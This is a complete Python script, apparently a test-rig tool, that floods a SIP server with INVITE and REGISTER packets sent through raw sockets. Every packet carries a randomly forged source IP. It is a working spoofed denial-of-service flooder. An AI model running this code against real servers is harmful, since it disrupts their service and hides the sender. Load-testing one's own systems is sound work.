"""Sends INVITE and REGISTER from forged addresses, at a rate, for a while; prints what it managed, as JSON.

    flood_packets.py INTERFACE SERVER_MAC SERVER_IP PORT PACKETS_A_SECOND SECONDS

Whole frames, made before the clock starts and written to the wire as they are: one system call each. Each has
a source of its own, drawn at random from everything that is unicast. Meant for a namespace that leads nowhere.
"""

import json
import random
import socket
import struct
import sys
import time

FRAMES = 32_768  # each with another source; then the same ones again
TICK = 0.002  # seconds between bursts


def source(chance):
    """A unicast address outside of 10/8, where the rig's own hosts are, and of 127/8."""
    while True:
        first = chance.randrange(1, 224)
        if first not in (10, 127):
            return bytes([first, *chance.randbytes(3)])


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def message(method, here, server, mark):
    user = f"{mark % 900 + 100}"
    target = f"sip:{user}@{server}" if method == "INVITE" else f"sip:{server}"
    lines = [
        f"{method} {target} SIP/2.0",
        f"Via: SIP/2.0/UDP {here}:5060;branch=z9hG4bK{mark:x};rport",
        "Max-Forwards: 70",
        f"From: <sip:{user}@{server}>;tag={mark:x}",
        f"To: <sip:{user}@{server}>",
        f"Call-ID: {mark:x}@{here}",
        f"CSeq: 1 {method}",
        f"Contact: <sip:{user}@{here}:5060>",
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def frame(mac, own_mac, server, port, chance, number):
    ip = source(chance)
    body = message(("INVITE", "REGISTER")[number % 2], socket.inet_ntoa(ip), server, chance.getrandbits(48))
    udp = struct.pack("!HHHH", 5060, port, 8 + len(body), 0) + body  # a sum of 0: none (RFC 768)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number & 0xFFFF, 0, 64, 17, 0, ip, socket.inet_aton(server))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return mac + own_mac + b"\x08\x00" + head + udp


def main():
    interface, mac, server, port, rate, seconds = sys.argv[1:]
    rate, seconds = int(rate), float(seconds)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    own = wire.getsockname()[4]
    chance = random.Random(7)
    mac = bytes.fromhex(mac.replace(":", ""))
    frames = [frame(mac, own, server, int(port), chance, number) for number in range(FRAMES)]
    print("ready", flush=True)
    sys.stdin.readline()
    sent = lost = 0
    send = wire.send
    began = time.monotonic()
    while (elapsed := time.monotonic() - began) < seconds:
        due = min(int(elapsed * rate), sent + rate // 10)
        while sent < due:
            try:
                send(frames[sent % FRAMES])
            except OSError:
                lost += 1  # no room on the wire
            sent += 1
        time.sleep(TICK)
    elapsed = time.monotonic() - began
    print(json.dumps({"sent": sent - lost, "lost": lost, "rate": (sent - lost) / elapsed, "cpu": time.process_time()}), flush=True)


main()
